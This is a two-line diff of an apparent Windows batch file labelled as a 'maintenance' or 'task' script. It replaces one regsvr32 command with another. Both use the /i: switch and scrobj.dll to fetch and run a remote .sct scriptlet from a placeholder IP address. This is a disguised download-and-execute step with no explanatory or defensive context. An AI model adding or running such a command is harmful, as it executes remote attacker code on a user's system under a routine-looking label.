@@ -1,2 +1,2 @@
-REM maintenance 9619 v4
-regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
+REM task 3579 v4
+regsvr32 /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
